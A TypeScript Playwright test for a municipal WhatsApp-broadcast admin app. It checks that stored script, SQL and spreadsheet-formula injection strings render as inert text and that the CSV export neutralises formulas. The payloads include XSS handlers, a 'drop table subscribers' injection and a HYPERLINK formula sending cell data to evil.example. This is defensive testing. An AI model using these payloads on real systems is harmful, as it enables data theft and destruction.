import { readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import type { Actor } from '@bacheca/audit';
import { BlindIndex, citizenPhoneCodec, SecretBox } from '@bacheca/crypto';
import { TenantDb } from '@bacheca/database';
import { StaffService } from '@bacheca/staff';
import { ApiHarness, makeStaff, PASSWORD, startApi } from '../../api/test/harness';
import { ensureAdminBuild } from './admin-build';
import { Browser, launchBrowser } from './browser';

/**
 * Script and SQL injection strings stored in the text fields the admin app shows (a comune's name and
 * contacts, staff names, broadcasts, keyword rules and reply texts, privacy notices, feeds, a citizen's
 * name and words), then every page that shows them opened in Chromium: each string must appear as
 * text, nothing may run (`window.__pwned` stays unset, no dialog), and no element may be created from
 * it. The API side (stored verbatim) is `apps/api/test/abuse.int-spec.ts`; here, the rendering.
 * No screenshots: pictures of these pages do not belong in docs/screenshots.
 */
const STEP = 120_000;
const SYSTEM: Actor = { userId: null, role: 'system', tenantId: null };

const H = {
  img: `<img src=x onerror=window.__pwned=1>`,
  script: `<script>window.__pwned=1</script>`,
  svg: `"'><svg onload=window.__pwned=1>`,
  sql: `'; drop table subscribers; --`,
  formula: `=HYPERLINK("https://evil.example/?d="&A1,"Apri")`,
  dialog: `<details open ontoggle=alert(document.domain)>`,
  iframe: `<iframe src="javascript:parent.__pwned=1"></iframe>`,
};

const COMUNE = `Comune ${H.svg} ${H.sql}`;
const CONTACT_APP = `${H.img} ${H.formula}`;
const ADMIN_NAME = `${H.script} ${H.dialog}`;
const EDITOR_NAME = `${H.iframe} ${H.sql}`;
const TITLE = `${H.img} ${H.sql}`;
const BODY = [H.script, H.svg, H.formula, H.dialog].join('\n');
const RULE_ID = `regola ${H.svg}`;
const FIELD_LABEL = `nome ${H.img}`.slice(0, 60);
const WELCOME = `${H.script} ${H.formula}`;
const NOTICE = `Informativa ${H.iframe}`;
const FEED = `Notizie ${H.dialog}`;
const CITIZEN = { nome: H.img, cognome: H.formula };
const WORDS = `Attiva ${H.script}`;
const RULE_MATCHED = H.sql;

/**
 * Installed before any of the app's scripts: records every element added to the page that could run
 * code (an inline handler attribute, an inline script, a frame, a javascript: link).
 */
const WATCH = `
  window.__injected = [];
  const look = (root) => {
    if (!root || root.nodeType !== 1) return;
    for (const el of [root, ...root.querySelectorAll('*')]) {
      const tag = el.tagName.toLowerCase();
      const handlers = [...el.attributes].map((a) => a.name).filter((n) => /^on/i.test(n));
      const href = (el.getAttribute('href') || el.getAttribute('src') || '').trim().toLowerCase();
      if (handlers.length || (tag === 'script' && !el.src) || ['iframe', 'object', 'embed', 'frame'].includes(tag) || href.startsWith('javascript:')) {
        window.__injected.push(tag + (handlers.length ? ' ' + handlers.join(' ') : '') + (href ? ' ' + href : ''));
      }
    }
  };
  new MutationObserver((records) => records.forEach((r) => r.addedNodes.forEach(look))).observe(document, { childList: true, subtree: true });
`;

let h: ApiHarness;
let browser: Browser;
let base: string;
let providerPage: Page;
let townPage: Page;
let comuneId: string;
let adminEmail: string;
let editorId: string;
let broadcastId: string;
let subscriberId: string;
const dialogs: string[] = [];
const errors: string[] = [];

/** The cells of a CSV file (RFC 4180 quoting), in order. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') cell += text[++i];
      else quoted = false;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') {
      cells.push(cell.replace(/\r$/, ''));
      cell = '';
    } else cell += c;
  }
  if (cell) cells.push(cell);
  return cells;
}

function watch(page: Page): Page {
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('pageerror', (e) => errors.push(e.message));
  return page;
}

async function login(page: Page, email: string): Promise<void> {
  await page.goto(`${base}/admin/accedi`);
  await page.getByLabel('Indirizzo e-mail').fill(email);
  await page.getByLabel(/^Password/).fill(PASSWORD);
  await page.getByRole('button', { name: 'Accedi', exact: true }).click();
}

/**
 * Waits for the page to show `texts` (and its form fields to hold `values`), then checks that each
 * string is there as text, that nothing ran and that nothing was injected.
 */
async function expectInert(page: Page, where: string, texts: string[], values: string[] = []): Promise<void> {
  // What is missing after the wait is reported below, with everything else.
  if (texts.length) await page.getByText(texts[0]).first().waitFor({ timeout: 15_000 }).catch(() => undefined);
  if (values.length) {
    // A string, not a function: these tests compile without the DOM's types.
    const present = `[...document.querySelectorAll('input, textarea')].map((e) => e.value)`;
    await page.waitForFunction(`${JSON.stringify(values)}.every((v) => ${present}.includes(v))`, undefined, { timeout: 15_000 }).catch(() => undefined);
  }
  // An injected image fails to load and its handler runs a moment later.
  await page.waitForTimeout(300);
  const state = (await page.evaluate(`({
    text: document.body.innerText,
    values: [...document.querySelectorAll('input, textarea')].map((e) => e.value),
    pwned: typeof window.__pwned,
    injected: window.__injected,
    found: [...document.querySelectorAll('img[src="x"], svg[onload], script:not([src]), iframe, object, embed, details[ontoggle], a[href^="javascript:" i]')]
      .map((e) => e.outerHTML.slice(0, 120)),
  })`)) as { text: string; values: string[]; pwned: string; injected: string[]; found: string[] };
  expect({
    where,
    missingText: texts.filter((t) => !state.text.includes(t)),
    missingValues: values.filter((v) => !state.values.includes(v)),
    pwned: state.pwned,
    injected: state.injected,
    found: state.found,
    dialogs,
    errors,
  }).toEqual({ where, missingText: [], missingValues: [], pwned: 'undefined', injected: [], found: [], dialogs: [], errors: [] });
}

beforeAll(async () => {
  const dist = ensureAdminBuild();
  h = await startApi({ ADMIN_DIST_DIR: dist });
  await h.app.listen(0, '127.0.0.1');
  base = `http://127.0.0.1:${(h.app.getHttpServer().address() as AddressInfo).port}`;

  // Everything below goes through the API as staff would write it, except the citizen, who writes on WhatsApp.
  const provider = await makeStaff(h, null, 'platform_admin');
  const asProvider = { Authorization: `Bearer ${provider.token}` };
  const comune = (
    await h
      .http()
      .post('/api/v1/platform/comuni')
      .set(asProvider)
      .send({ slug: 'comune-ostile', name: COMUNE, istatCode: '099001', province: 'MI', status: 'active', contactApp: CONTACT_APP })
      .expect(201)
  ).body;
  comuneId = comune.id;
  adminEmail = 'admin@comune-ostile.example.org';
  await h.app.get(StaffService).createFirstAdmin(SYSTEM, comuneId, { email: adminEmail, fullName: ADMIN_NAME, password: PASSWORD });
  const token = (await h.http().post('/api/v1/auth/login').send({ email: adminEmail, password: PASSWORD }).expect(200)).body.accessToken as string;
  const as = { Authorization: `Bearer ${token}` };

  editorId = (
    await h
      .http()
      .post('/api/v1/users')
      .set(as)
      .send({ email: 'redazione@comune-ostile.example.org', fullName: EDITOR_NAME, role: 'editor', password: 'una-password-lunga' })
      .expect(201)
  ).body.id;
  broadcastId = (await h.http().post('/api/v1/broadcasts').set(as).send({ title: TITLE, body: BODY }).expect(201)).body.id;

  const settings = (await h.http().get('/api/v1/settings/service').set(as).expect(200)).body;
  const keywordSet = {
    ...settings.keywordSet,
    rules: [
      ...settings.keywordSet.rules,
      { id: RULE_ID, action: 'subscribe', phrases: ['iscrivimi subito'], capture: [{ name: 'nome', label: FIELD_LABEL, required: true }] },
    ],
  };
  await h.http().put('/api/v1/settings/keyword-set').set(as).send(keywordSet).expect(200);
  await h.http().patch('/api/v1/settings/service').set(as).send({ messages: { welcome: WELCOME } }).expect(200);
  await h.http().post('/api/v1/settings/privacy-notices').set(as).send({ title: NOTICE, body: BODY, url: 'https://example.org/privacy' }).expect(201);
  await h.http().post('/api/v1/feeds').set(as).send({ name: FEED, url: 'https://example.org/feed.xml', mode: 'review' }).expect(201);

  // A citizen who subscribed with these as name and words (stored as the flow stores them).
  const codec = citizenPhoneCodec(h.app.get(SecretBox), h.app.get(BlindIndex), comuneId);
  const phone = '+393471234567';
  subscriberId = await h.app.get(TenantDb).inTenant(comuneId, async (em) => {
    const [s] = await em.query(
      `insert into subscribers (tenant_id, phone_hash, phone_enc, status, fields, subscribed_at, state_changed_at)
       values ($1, $2, $3, 'active', $4::jsonb, now(), now()) returning id`,
      [comuneId, codec.hash(phone), codec.seal(phone), JSON.stringify(CITIZEN)],
    );
    await em.query(
      `insert into consent_ledger (tenant_id, phone_hash, action, occurred_at, words_received, rule_matched)
       values ($1, $2, 'opt_in', now() - interval '1 minute', $3, $4), ($1, $2, 'topics', now(), $5, null)`,
      [comuneId, codec.hash(phone), WORDS, RULE_MATCHED, H.formula],
    );
    return s.id as string;
  });

  browser = await launchBrowser();
  await browser.context.addInitScript({ content: WATCH });
  providerPage = watch(await browser.context.newPage());
  townPage = watch(await browser.context.newPage());
  await login(providerPage, provider.email);
  await login(townPage, adminEmail);
}, 240_000);

afterAll(async () => {
  await browser?.close();
  await h?.close();
});

it(
  'provider pages: the comune list, the comune with its first admin and contacts, the audit log',
  async () => {
    await providerPage.getByRole('heading', { level: 1, name: 'Comuni' }).waitFor({ timeout: 15_000 });
    await expectInert(providerPage, 'provider: comuni list', [COMUNE]);
    await providerPage.getByRole('link', { name: COMUNE }).click();
    await expectInert(providerPage, 'provider: comune', [COMUNE, ADMIN_NAME], [COMUNE, CONTACT_APP]);
    expect(await providerPage.getByRole('heading', { level: 1 }).innerText()).toContain(COMUNE);
    await providerPage.goto(`${base}/admin/fornitore/registro`);
    await expectInert(providerPage, 'provider: audit log', [COMUNE]);
  },
  STEP,
);

it(
  'town pages: dashboard, broadcasts, a broadcast, staff, a staff member, contacts, settings, feeds, audit log',
  async () => {
    await townPage.getByRole('heading', { level: 1, name: 'Cruscotto' }).waitFor({ timeout: 15_000 });
    await expectInert(townPage, 'town: dashboard', [`Comune di ${COMUNE}`, ADMIN_NAME, CONTACT_APP, TITLE]);
    expect(await townPage.locator('.user-name').first().innerText()).toBe(ADMIN_NAME);

    await townPage.goto(`${base}/admin/messaggi`);
    await expectInert(townPage, 'town: broadcasts', [TITLE]);
    await townPage.goto(`${base}/admin/messaggi/${broadcastId}`);
    await expectInert(townPage, 'town: broadcast', [TITLE, H.script, H.svg, H.formula, H.dialog]);
    expect(await townPage.getByTestId('wa-preview').innerText()).toContain(H.dialog);

    await townPage.goto(`${base}/admin/utenti`);
    await expectInert(townPage, 'town: users', [ADMIN_NAME, EDITOR_NAME]);
    await townPage.goto(`${base}/admin/utenti/${editorId}`);
    await expectInert(townPage, 'town: user', [EDITOR_NAME]);

    await townPage.goto(`${base}/admin/contatti`);
    await expectInert(townPage, 'town: contacts', [], [CONTACT_APP]);
    expect(await townPage.getByLabel('App del comune').inputValue()).toBe(CONTACT_APP);

    await townPage.goto(`${base}/admin/impostazioni`);
    await expectInert(townPage, 'town: settings', [RULE_ID, NOTICE], [WELCOME]);
    // The keyword tester explains what it read from a message: the citizen's words and the rule's label.
    await townPage.getByLabel('Messaggio di un cittadino').fill(`iscrivimi subito ${H.svg}`);
    await townPage.getByRole('button', { name: 'Prova', exact: true }).click();
    await townPage.getByTestId('try-result').getByText(RULE_ID, { exact: true }).waitFor({ timeout: 15_000 });
    await expectInert(townPage, 'town: settings, keyword tester', [RULE_ID]);

    await townPage.goto(`${base}/admin/impostazioni/notizie-dal-sito`);
    await expectInert(townPage, 'town: feeds', [FEED]);
    await townPage.goto(`${base}/admin/registro`);
    await expectInert(townPage, 'town: audit log', [ADMIN_NAME]);
  },
  STEP,
);

it(
  'a citizen whose name and words are markup and formulas: shown as text; the CSV export makes no formula of them',
  async () => {
    await townPage.goto(`${base}/admin/iscritti/${subscriberId}`);
    await expectInert(townPage, 'town: subscriber', [`nome: ${H.img}`, `cognome: ${H.formula}`, WORDS, RULE_MATCHED, H.formula]);

    const [download] = await Promise.all([townPage.waitForEvent('download'), townPage.getByRole('button', { name: 'Esporta i dati (CSV)' }).click()]);
    const cells = csvCells(readFileSync((await download.path())!, 'utf8'));
    // The words are there, behind the apostrophe that keeps a spreadsheet from evaluating them; no
    // cell starts as a formula would.
    expect(cells).toContain(`'${H.formula}`);
    expect(cells).toContain(WORDS);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    await expectInert(townPage, 'town: subscriber after export', [WORDS]);
  },
  STEP,
);

it(
  'composing: what is typed is previewed as text, and an address that is not a web address is not a link',
  async () => {
    await townPage.goto(`${base}/admin/messaggi/nuovo`);
    await townPage.getByLabel(/^Titolo/).fill(H.svg);
    await townPage.getByLabel(/^Testo/).fill(`${H.img}\n${H.iframe}`);
    await townPage.getByLabel(/^Collegamento a un’immagine o a un PDF/).fill('javascript:window.__pwned=1');
    const preview = townPage.getByTestId('wa-preview');
    await preview.getByText('javascript:window.__pwned=1').waitFor();
    expect(await preview.locator('a').count()).toBe(0);
    await expectInert(townPage, 'town: new broadcast preview', [H.svg, H.img, H.iframe, 'javascript:window.__pwned=1']);

    await townPage.getByLabel(/^Collegamento a un’immagine o a un PDF/).fill('https://www.comune.example.it/avviso.pdf');
    expect(await preview.getByRole('link').getAttribute('href')).toBe('https://www.comune.example.it/avviso.pdf');
  },
  STEP,
);
